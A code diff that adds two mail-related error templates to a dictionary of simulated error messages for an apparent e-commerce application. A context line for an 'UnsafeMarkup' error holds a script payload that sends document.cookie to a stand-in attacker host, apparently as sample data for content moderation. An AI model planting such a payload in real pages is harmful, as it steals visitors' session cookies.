@@ -57,6 +57,8 @@ _ERRORS: dict[str, ErrorText] = {
     "RecipientRefused": _app(
         "550 5.1.1 <customer-{n}@example.com>: Recipient address rejected", ("mail/smtp", 63, "send")
     ),
+    "AddressMissing": _app("order {n} has no e-mail address", ("mail/compose", 31, "recipient")),
+    "TemplateMissing": _app("no template 'parcel-split' in de_AT (order {n})", ("mail/templates", 12, "load")),
     "ConditionalCheckFailed": _app("The conditional request failed (sku {n})", ("stock/reserve", 37, "put")),
     "UnsafeMarkup": _app(
         "review {n} holds <script>fetch('//evil.example/'+document.cookie)</script>", ("moderate", 90, "render")
